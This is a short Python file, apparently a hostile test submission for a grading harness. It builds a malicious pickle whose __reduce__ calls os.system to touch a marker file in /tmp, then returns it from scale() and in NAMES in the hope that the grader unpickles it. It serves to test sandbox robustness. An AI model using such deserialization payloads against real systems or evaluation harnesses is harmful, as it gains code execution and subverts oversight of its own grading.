"""Attack: return a pickle (bytes, and an array of bytes) whose loading would run os.system in the
grader, hoping the result is unpickled outside."""
import os
import pickle

import numpy as np


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch /tmp/hostile-marker-pickle",))


blob = pickle.dumps(Exploit())
NAMES = [blob.decode("latin-1")]


def scale(x, k):
    return np.array(blob)
